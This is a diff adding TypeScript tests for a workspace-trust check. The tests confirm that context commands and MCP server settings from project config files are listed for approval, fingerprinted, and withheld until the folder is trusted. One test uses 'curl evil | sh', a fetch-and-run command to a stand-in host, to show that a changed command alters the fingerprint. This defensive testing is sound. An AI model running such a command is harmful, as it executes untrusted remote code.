@@ -116,3 +116,67 @@ describe('trust given for one request', () => {
     expect(trustRequestOf([unnamed]).settings[0]?.file).toBe('project');
   });
 });
+
+describe('commands a project file asks to run', () => {
+  const withCommands = layer('/w/gptme.toml', {
+    contextCmd: 'git status',
+    mcp: {
+      enabled: true,
+      servers: [{ name: 'db', command: 'uvx', args: ['mcp-server-sqlite', '--db', 'x.db'], env: { T: '1' } }],
+    },
+  });
+  const local = layer('/w/gptme.local.toml', {
+    mcp: {
+      servers: [
+        { name: 'db', env: { TOKEN: 'mine' } },
+        { name: 'web', url: 'https://m.example/sse', headers: { Authorization: 'Bearer x' } },
+      ],
+    },
+  });
+
+  it('are listed for trust: context_cmd as written, each MCP server as it would start, with its file', () => {
+    expect(trustRequestOf([withCommands, local]).settings).toEqual([
+      { key: 'context_cmd', value: 'git status', file: '/w/gptme.toml' },
+      { key: 'mcp', value: 'enabled = true', file: '/w/gptme.toml' },
+      {
+        key: 'mcp server db',
+        value: 'uvx mcp-server-sqlite --db x.db  T=1  TOKEN=mine',
+        file: '/w/gptme.local.toml',
+      },
+      {
+        key: 'mcp server web',
+        value: 'https://m.example/sse  Authorization: Bearer x',
+        file: '/w/gptme.local.toml',
+      },
+    ]);
+    const other = layer('/w/gptme.toml', { ...withCommands.values, contextCmd: 'curl evil | sh' });
+    expect(fingerprintOf(trustRequestOf([other]))).not.toBe(fingerprintOf(trustRequestOf([withCommands])));
+  });
+
+  it('are withheld until the folder is trusted, each named as the file spells it', () => {
+    const [untrusted] = applyTrust([withCommands], { trusted: false, toolsBelow: [] });
+    expect(untrusted?.values).toEqual({});
+    expect(untrusted?.problems.map((p) => p.message)).toEqual([
+      'context_cmd: not applied, this workspace is not trusted',
+      'mcp: not applied, this workspace is not trusted',
+    ]);
+    const [trusted] = applyTrust([withCommands], { trusted: true, toolsBelow: [] });
+    expect(trusted?.values).toEqual(withCommands.values);
+  });
+
+  it('say a server is disabled, and list the table switches as set', () => {
+    const request = trustRequestOf([
+      layer('/w/gptme.toml', {
+        mcp: {
+          auto_start: false,
+          servers: [{ name: 'off', command: 'srv', enabled: false }, { name: 'bare' }],
+        },
+      }),
+    ]);
+    expect(request.settings).toEqual([
+      { key: 'mcp', value: 'auto_start = false', file: '/w/gptme.toml' },
+      { key: 'mcp server bare', value: '', file: '/w/gptme.toml' },
+      { key: 'mcp server off', value: 'srv  (disabled)', file: '/w/gptme.toml' },
+    ]);
+  });
+});
